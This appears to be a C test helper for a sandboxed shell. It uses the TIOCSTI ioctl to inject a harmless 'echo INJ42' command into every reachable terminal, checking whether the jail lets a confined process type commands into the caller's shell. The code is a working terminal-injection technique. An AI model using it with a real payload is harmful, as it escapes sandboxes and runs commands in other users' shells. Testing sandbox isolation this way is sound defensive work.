/* tiocsti: the hostile session process of issue 11 item 3 (tests/jailsh.sh).
 * Pushes the line  echo INJ$((40+2))  into the input of every terminal it
 * can reach (fds 0-2 and /dev/tty) with TIOCSTI, then prints what each
 * attempt gave and "tiocsti: done". If the line lands in the caller's
 * terminal, the caller's shell runs it after the session and prints INJ42.
 * Built static so it runs in a busybox jail. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static const char line[] = "echo INJ$((40+2))\n";

static void push(int fd, const char *name)
{
	const char *p;

	for (p = line; *p != '\0'; p++)
		if (ioctl(fd, TIOCSTI, p) != 0) {
			printf("tiocsti: %s: %s\n", name, strerror(errno));
			return;
		}
	printf("tiocsti: %s: pushed\n", name);
}

int main(void)
{
	int fd;

	push(0, "fd0");
	push(1, "fd1");
	push(2, "fd2");
	fd = open("/dev/tty", O_RDWR | O_NOCTTY);
	if (fd < 0)
		printf("tiocsti: /dev/tty: %s\n", strerror(errno));
	else
		push(fd, "/dev/tty");
	printf("tiocsti: done\n");
	return 0;
}
